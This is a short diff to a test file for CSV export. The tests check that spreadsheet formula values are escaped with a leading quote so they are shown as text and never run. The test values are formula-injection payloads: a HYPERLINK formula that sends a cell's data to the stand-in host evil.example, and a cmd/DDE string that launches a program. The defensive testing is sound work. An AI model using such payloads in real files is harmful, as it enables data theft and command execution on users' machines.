@@ -200,7 +200,7 @@ describe('CSV export', () => {
 describe('CSV export and spreadsheet formulas', () => {
   it.each([
     '=HYPERLINK("http://evil.example/leak?"&A2,"Click me")',
-    '+cmd|\' /C calc\'!A0',
+    "+cmd|' /C calc'!A0",
     '-2+3',
     '@SUM(1+1)',
   ])('writes the name %j with a leading quote, so a spreadsheet shows it and never runs it', async (name) => {
